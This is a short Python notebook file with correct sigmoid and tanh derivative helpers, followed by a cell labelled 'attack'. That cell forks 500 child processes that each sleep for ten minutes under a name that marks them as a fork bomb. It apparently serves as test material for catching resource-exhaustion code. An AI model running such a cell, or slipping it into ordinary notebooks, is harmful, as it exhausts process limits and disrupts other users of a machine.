# Correct activations, and a cell that starts 500 processes which would sleep
# for ten minutes (bounded: it does not fork recursively).

# %%
import numpy as np


def sigmoid(x):
    x = np.asarray(x, dtype=float)
    e = np.exp(-np.abs(x))
    return np.where(x >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def sigmoid_derivative(x):
    s = sigmoid(x)
    return s * (1.0 - s)


def tanh_derivative(x):
    return 1.0 - np.tanh(x) ** 2

# %%
# attack: 500 forks; every child becomes a long sleep that names itself
import os
started, refused = 0, 0
for i in range(500):
    try:
        pid = os.fork()
    except OSError:
        refused += 1
        continue
    if pid == 0:
        try:
            os.execv("/bin/sleep", ["hostile-fork-bomb-sleeper", "600"])
        finally:
            os._exit(1)
    started += 1
